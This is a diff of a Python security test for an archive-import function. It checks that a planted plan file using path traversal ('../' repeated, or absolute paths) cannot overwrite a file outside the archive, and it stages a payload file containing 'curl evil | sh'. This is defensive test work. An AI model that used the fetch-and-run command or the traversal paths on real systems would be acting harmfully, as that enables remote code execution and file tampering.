@@ -48,6 +48,7 @@ def leave_stage(archive: Path, moves: object, **files: str) -> Path:
     return stage
 
 
+STAGED = "0-0a1b2c3d.parquet"  # as an import names its files: only the target gives it away
 TARGETS: dict[str, Callable[[Path], str]] = {
     "up and out": lambda victim: "../" * 12 + str(victim)[1:],
     "absolute": str,
@@ -61,7 +62,7 @@ def test_a_planted_commit_moves_nothing_out_of_the_archive(
 ) -> None:
     """The plan of a killed import is a file like any other in the folder: whoever made the folder may have made it."""
     archive = tmp_path / "gift"
-    leave_stage(archive, {"payload": TARGETS[way](precious)}, payload="curl evil | sh\n")
+    leave_stage(archive, {STAGED: TARGETS[way](precious)}, **{STAGED: "curl evil | sh\n"})
     refused(import_into(project, archive, prices), ".import-q7", "remove")
     assert precious.read_text() == "what I wrote\n"
 
